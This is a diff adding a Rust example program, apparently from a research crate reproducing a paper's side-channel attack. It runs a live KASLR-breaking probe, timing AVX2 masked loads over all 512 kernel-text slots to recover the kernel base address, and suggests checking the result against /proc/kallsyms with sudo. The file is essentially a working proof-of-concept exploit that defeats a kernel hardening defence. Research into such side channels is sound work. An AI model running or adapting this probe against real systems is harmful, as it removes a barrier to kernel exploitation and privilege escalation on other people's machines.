@@ -1,0 +1,90 @@
+//! Live KASLR probe on this machine (the paper's end-to-end PoC).
+//!
+//! Runs the real §IV-B procedure with actual AVX2 masked loads: probe
+//! all 512 candidate kernel-text offsets twice each, keep the second
+//! measurement (min-filtered over rounds against interrupt noise), and
+//! look for a bimodal split. On bare-metal Linux without KPTI this
+//! recovers the kernel base like the paper's PoC; on KPTI machines,
+//! VMs, or non-Linux hosts it reports what it sees and why that is
+//! expected.
+//!
+//! The probes are architecturally non-faulting and transfer no data —
+//! this example only *times* instructions.
+//!
+//! ```text
+//! cargo run --release --example hw_kaslr
+//! ```
+
+use avx_channel::report::{ascii_plot_clamped, Series};
+use avx_channel::{Prober, Threshold};
+use avx_hw::HwProber;
+use avx_mmu::VirtAddr;
+use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};
+use avx_uarch::OpKind;
+
+const ROUNDS: usize = 16;
+
+fn main() {
+    // SAFETY: probes use all-zero masks (non-faulting, non-transferring)
+    // on the kernel-text candidate range; no MMIO is mapped there from
+    // this process's perspective — worst case the probe is slow.
+    let mut prober = match unsafe { HwProber::new(3.0) } {
+        Ok(p) => p,
+        Err(e) => {
+            println!("hardware probing unavailable: {e}");
+            println!("(run the simulator examples instead, e.g. `quickstart`)");
+            return;
+        }
+    };
+
+    println!("probing {KERNEL_SLOTS} kernel-text offsets × {ROUNDS} rounds ...");
+    let mut samples = vec![u64::MAX; KERNEL_SLOTS as usize];
+    for _ in 0..ROUNDS {
+        for (slot, best) in samples.iter_mut().enumerate() {
+            let addr = VirtAddr::new_truncate(
+                KERNEL_TEXT_REGION_START + slot as u64 * KASLR_ALIGN,
+            );
+            // Paper methodology: probe twice, keep the second; min over
+            // rounds rejects interrupts.
+            let _ = prober.probe(OpKind::Load, addr);
+            let t = prober.probe(OpKind::Load, addr);
+            *best = (*best).min(t);
+        }
+    }
+
+    let series = Series::from_samples("live kernel-offset probe latencies", &samples);
+    let min = *samples.iter().min().unwrap() as f64;
+    println!("{}", ascii_plot_clamped(&series, 100, 12, min + 60.0));
+
+    match Threshold::from_bimodal_samples(&samples) {
+        Some(th) => {
+            let mapped: Vec<usize> = samples
+                .iter()
+                .enumerate()
+                .filter(|(_, &s)| th.is_mapped(s))
+                .map(|(i, _)| i)
+                .collect();
+            let bimodal = !mapped.is_empty() && mapped.len() < samples.len() / 2;
+            if bimodal {
+                let base = KERNEL_TEXT_REGION_START + mapped[0] as u64 * KASLR_ALIGN;
+                println!(
+                    "bimodal split at {:.0} cycles: {} fast slots starting at offset {} → candidate base {:#x}",
+                    th.boundary(),
+                    mapped.len(),
+                    mapped[0],
+                    base
+                );
+                println!("(verify against /proc/kallsyms with root: `sudo head -1 /proc/kallsyms`)");
+            } else {
+                println!(
+                    "no usable bimodal structure ({} of {} slots below the split): \
+                     KPTI, virtualization or prefetch mitigations likely hide the kernel here — \
+                     the expected outcome on hardened hosts.",
+                    mapped.len(),
+                    samples.len()
+                );
+            }
+        }
+        None => println!("flat latency landscape — no signal on this host."),
+    }
+}
